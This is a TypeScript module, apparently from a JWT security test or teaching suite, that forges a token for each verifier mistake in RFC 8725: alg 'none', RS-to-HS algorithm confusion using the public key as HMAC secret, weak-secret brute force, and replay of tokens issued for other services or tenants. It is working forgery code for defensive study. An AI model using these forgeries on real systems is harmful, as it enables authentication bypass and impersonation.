/**
 * For each mistake of a verifier, the token that gets past it, made only of what an attacker has.
 *
 * An attacker has one genuine token, the public key, and a list of words; for `no-aud` and `no-iss` also a genuine token
 * that the same issuer signed for another service or another tenant, which is a matter of registering there. The threats
 * are those of RFC 8725 section 2.
 */
import { encodeUtf8 } from '../bytes/utf8.ts';
import { issue, signingInput } from './sign.ts';
import type { Mistake } from './verify.ts';
import { findSecret } from './weak-secrets.ts';

export interface Loot {
  /** The genuine token, with its payload as text. */
  readonly token: string;
  readonly payload: string;
  readonly header: string;
  /** PEM of the public key, where there is one. */
  readonly publicPem: string | undefined;
  /** Genuine tokens for somebody else: signed by the issuer on the attacker's request. */
  readonly forAnotherService: string;
  readonly ofAnotherTenant: string;
}

export interface Forgery {
  readonly token: string;
  /** How many words were tried, where a secret was searched. */
  readonly tried: number;
  readonly secret: string | undefined;
}

/** Returns the forged token, `undefined` where this mistake helps nobody (a public key is needed, or a weak secret). */
export function forge(mistake: Mistake, wanted: string, loot: Loot): Forgery | undefined {
  const plain = (token: string): Forgery => ({ token, tried: 0, secret: undefined });
  switch (mistake) {
    case 'decode-only':
      // The signature of another text: nobody looks at it.
      return plain(`${signingInput(loot.header, wanted)}.${loot.token.split('.')[2] ?? ''}`);
    case 'accept-none':
      return plain(`${signingInput('{"alg":"none","typ":"JWT"}', wanted)}.`);
    case 'trust-alg':
    case 'rs-to-hs': {
      if (loot.publicPem === undefined) return undefined;
      const header = '{"alg":"HS256","typ":"JWT"}';
      const token = issue('HS256', { kty: 'oct', k: encodeUtf8(loot.publicPem) }, header, wanted);
      return token === undefined ? undefined : plain(token);
    }
    case 'weak-secret': {
      const { tried, secret } = findSecret(loot.token);
      if (secret === undefined) return undefined;
      const token = issue('HS256', { kty: 'oct', k: encodeUtf8(secret) }, '{"alg":"HS256","typ":"JWT"}', wanted);
      return token === undefined ? undefined : { token, tried, secret };
    }
    case 'no-exp':
      return plain(loot.token);
    case 'no-aud':
      return plain(loot.forAnotherService);
    case 'no-iss':
      return plain(loot.ofAnotherTenant);
  }
}
